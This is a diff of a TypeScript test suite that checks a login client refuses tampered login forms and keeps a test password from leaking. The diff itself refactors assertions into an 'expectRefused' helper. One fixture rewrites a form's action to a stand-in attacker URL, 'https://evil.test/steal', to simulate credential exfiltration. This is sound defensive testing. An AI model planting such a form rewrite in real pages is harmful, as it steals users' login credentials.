@@ -6,7 +6,17 @@ import type { Header, HttpRequest, HttpResponse } from '../../src/protocol/http/
 import { bytes, header, jsonResponse, splitUrl, text, textResponse } from '../../src/protocol/http/message.js'
 import { decodeJwt } from '../../src/protocol/tokens/decode.js'
 import { generateSigningKeyPem, loadSigningKey, signJwt } from '../../src/protocol/tokens/keys.js'
-import { collect, ISSUER, NOW, outcomeIn, signingKey, stepsOf, type Tamper, world } from './support/world.js'
+import {
+  collect,
+  expectRefused,
+  ISSUER,
+  NOW,
+  outcomeIn,
+  signingKey,
+  stepsOf,
+  type Tamper,
+  world,
+} from './support/world.js'
 
 const at = (
   path: string,
@@ -295,7 +305,7 @@ describe('secrets stay where they belong', () => {
         body: bytes(text(answer.body).replace('<form ', '<form action="https://evil.test/steal" ')),
       })),
     )
-    expect(outcomeIn(records)).toMatchObject({ outcome: 'refused', error: { error: 'foreign_login_form' } })
+    expectRefused(records, 'foreign_login_form')
     expect(sent.every(request => request.url.startsWith(ISSUER))).toBe(true)
     expect(sent.map(request => text(request.body)).join()).not.toContain('wonderland')
   })
@@ -308,7 +318,7 @@ describe('secrets stay where they belong', () => {
           : answer,
       ),
     )
-    expect(outcomeIn(records)).toMatchObject({ outcome: 'refused', error: { error: 'invalid_response' } })
+    expectRefused(records, 'invalid_response')
     expect(sent.filter(request => request.method === 'POST')).toHaveLength(1)
   })
 
@@ -319,7 +329,7 @@ describe('secrets stay where they belong', () => {
         body: bytes(text(answer.body).replace('method="post"', 'method="get"')),
       })),
     )
-    expect(outcomeIn(records)).toMatchObject({ outcome: 'refused', error: { error: 'foreign_login_form' } })
+    expectRefused(records, 'foreign_login_form')
     expect(JSON.stringify(records)).not.toContain('wonderland')
   })
 })
